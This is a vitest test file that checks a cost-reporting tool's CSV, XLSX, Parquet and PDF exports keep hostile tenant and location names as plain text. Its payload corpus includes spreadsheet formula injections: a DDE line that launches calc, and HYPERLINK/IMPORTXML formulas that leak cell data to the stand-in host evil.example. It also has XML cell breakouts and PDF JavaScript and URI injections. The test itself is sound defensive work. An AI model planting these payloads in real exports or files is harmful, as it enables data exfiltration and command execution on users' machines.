import { inflateRawSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { CsvReader } from "../../../../core/cost/csv-reader.ts";
import type { CostTenant } from "../../../../core/cost/ledger.ts";
import { csvFile } from "../../../../core/cost/report/csv.ts";
import type { ReportModel } from "../../../../core/cost/report/model.ts";
import { parquetFile } from "../../../../core/cost/report/parquet.ts";
import { pdfFile } from "../../../../core/cost/report/pdf/report-pdf.ts";
import { xlsxFile } from "../../../../core/cost/report/xlsx.ts";
import { startsFormula } from "../../../../core/kernel/spreadsheet.ts";
import { clinicLine, sampleShares } from "../focus/ledger-lines.ts";
import { parquetRows, pdfOf, sheetsOf } from "./readers.ts";
import { customerReport, providerReport, statementOf } from "./reports.ts";

/** What a clinic, a location or a line may be called by somebody who means harm. */
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
  '=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1+1)",
  "-",
  "=",
];
/** No formula by itself, and a way out of the cell for who is careless. */
const ESCAPES = [
  '",=1+1,"',
  '"\r\n=1+1',
  "a\r\n=1+1,2",
  "'=1+1",
  ";=1+1",
  " =1+1",
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  "&#61;1+1",
  "_x003D_1+1",
  ") Tj ET /JavaScript (app.alert(1)) endstream",
  "<</S/URI/URI(http://evil.example)>>",
  "NULL",
];
const CORPUS = [...FORMULAS, ...ESCAPES];

const named = (name: string): CostTenant => ({ ...clinicLine().tenant, name });
const chargesOf = (name: string) => [
  clinicLine({ tenant: named(name), description: name, location: { id: "l1", name }, meterName: name }),
];
const reportsOf = (name: string): readonly ReportModel[] => [
  statementOf(chargesOf(name)),
  customerReport(chargesOf(name)),
  providerReport(sampleShares().map((share) => ({ ...share, tenant: share.tenant === null ? null : named(name) }))),
];

/** Fields as they stand between the commas, unquoted. */
function fieldsOf(file: Uint8Array): (readonly (string | null)[])[] {
  const reader = new CsvReader();
  return [...reader.push(new TextDecoder("utf-8").decode(file)), ...reader.end()];
}

const xmlText = (text: string): string => text.replaceAll("\0", "");

/** The files of a ZIP archive, by its central directory (APPNOTE 4.3.12). */
function unzipped(file: Uint8Array): ReadonlyMap<string, string> {
  const bytes = Buffer.from(file);
  const files = new Map<string, string>();
  for (let at = bytes.indexOf("PK\u0001\u0002", 0, "latin1"); at !== -1;) {
    const [method, size, nameLength] = [
      bytes.readUInt16LE(at + 10),
      bytes.readUInt32LE(at + 20),
      bytes.readUInt16LE(at + 28),
    ];
    const local = bytes.readUInt32LE(at + 42);
    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const packed = bytes.subarray(start, start + size);
    const name = bytes.toString("utf8", at + 46, at + 46 + nameLength);
    files.set(name, (method === 0 ? packed : inflateRawSync(packed)).toString("utf8"));
    at = bytes.indexOf("PK\u0001\u0002", at + 46 + nameLength, "latin1");
  }
  return files;
}

describe("AT-55 a name that is a formula is text in every format", () => {
  it("AT-55 spreadsheet CSV: no field begins a formula, none leaves its cell, and none is lost", () => {
    for (const name of CORPUS) {
      for (const report of reportsOf(name)) {
        const [head = [], ...rows] = fieldsOf(csvFile(report, "spreadsheet"));
        expect(head).toHaveLength(report.columns.length);
        expect(rows.map((row) => row.length)).toEqual(report.rows.map(() => report.columns.length));
        for (const [place, column] of report.columns.entries()) {
          const cells = rows.map((row) => row[place] ?? null).filter((cell) => cell !== null);
          if (column.type === "Decimal") expect(cells.filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
          else expect(cells.filter(startsFormula)).toEqual([]);
        }
        expect(rows.flat().some((cell) => cell === name || cell === `'${name}`)).toBe(true);
      }
    }
  });

  it("AT-55 FOCUS CSV: text that begins a formula stops the export, all else is written as it is", () => {
    for (const name of FORMULAS) {
      for (const report of reportsOf(name)) expect(() => csvFile(report, "focus"), name).toThrow(/formula/);
    }
    for (const name of ESCAPES) {
      for (const report of reportsOf(name)) {
        const rows = fieldsOf(csvFile(report, "focus")).slice(1);
        expect(rows.map((row) => row.length)).toEqual(report.rows.map(() => report.columns.length));
        expect(rows.flat()).toContain(name);
      }
    }
  });

  it("AT-55 FOCUS CSV has raw numbers below zero, JSON and dates, and no byte order mark", () => {
    const report = customerReport([
      clinicLine({
        category: "Credit",
        quantity: null,
        unit: null,
        unitPrice: null,
        amount: -5_000_000_000_000n as ReturnType<typeof clinicLine>["amount"],
      }),
    ]);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(csvFile(report, "focus"));
    expect(text.startsWith("BilledCost,")).toBe(true);
    expect(text).toContain("\n-5.0,");
    const person = new TextDecoder("utf-8", { ignoreBOM: true }).decode(csvFile(report, "spreadsheet"));
    expect([person.startsWith("\ufeff"), person.endsWith("\r\n"), person.includes(",-5,")]).toEqual([true, true, true]);
  });

  it("AT-55 XLSX: string cells of format Text, no formula in any part, every name as it was", async () => {
    for (const name of CORPUS) {
      const file = await xlsxFile(statementOf(chargesOf(name)));
      const parts = unzipped(file);
      expect([...parts.keys()].filter((part) => /vba|external|calcChain/i.test(part))).toEqual([]);
      for (const [part, xml] of parts) expect([part, /<f[\s>]/.test(xml)]).toEqual([part, false]);
      const [rows, totals] = await sheetsOf(file);
      const read = [...(rows?.rows ?? []), ...(totals?.rows ?? [])].flat();
      const expected = xmlText(name).trim();
      expect(
        read.some(
          (cell) =>
            typeof cell === "string" && cell.replaceAll("\r\n", "\n").trim() === expected.replaceAll("\r\n", "\n"),
        ),
      ).toBe(true);
    }
  });

  it("AT-55 Parquet: the name and nothing else", async () => {
    for (const name of CORPUS) {
      const [row] = await parquetRows(parquetFile(statementOf(chargesOf(name))));
      expect([row?.["ChargeDescription"], row?.["Location"]]).toEqual([name, name]);
    }
  });

  it("AT-55 PDF: nothing active, and no name that breaks out of its text", async () => {
    const whole = CORPUS.flatMap((name) => [...chargesOf(name)]).map((charge) => ({
      ...charge,
      tenant: named(CORPUS.join(" ")),
    }));
    const file = pdfFile(statementOf(whole));
    const pdf = await pdfOf(file);
    expect([pdf.annotations, pdf.hasScript]).toEqual([0, false]);
    const outside = Buffer.from(file)
      .toString("latin1")
      .replaceAll(/stream\n[\s\S]*?\nendstream/g, "");
    expect(outside).not.toMatch(/JavaScript|\/URI|\/Launch|\/OpenAction|\/AA\b|\/EmbeddedFile/);
    expect(pdf.pages.join(" ")).toContain("app.alert(1)");
  });

  it("AT-55 the corpus is one: unguarded, its formulas would begin their fields", () => {
    expect(FORMULAS.every(startsFormula)).toBe(true);
    expect(ESCAPES.some(startsFormula)).toBe(false);
  });
});
